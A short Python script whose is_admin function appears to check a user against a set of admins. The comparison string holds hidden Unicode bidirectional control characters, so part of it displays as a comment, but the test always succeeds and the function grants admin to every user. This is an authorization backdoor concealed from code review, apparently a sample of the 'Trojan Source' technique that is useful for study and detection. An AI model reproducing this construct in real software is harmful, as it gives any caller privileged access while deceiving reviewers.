import sys

ADMINS = {"alice", "bob"}


def is_admin(user: str) -> bool:
    access_level = "user"
    if access_level != "user‮ ⁦# Check if admin⁩ ⁦":
        return True
    return user in ADMINS


if __name__ == "__main__":
    print("admin" if is_admin(sys.argv[1]) else "user")
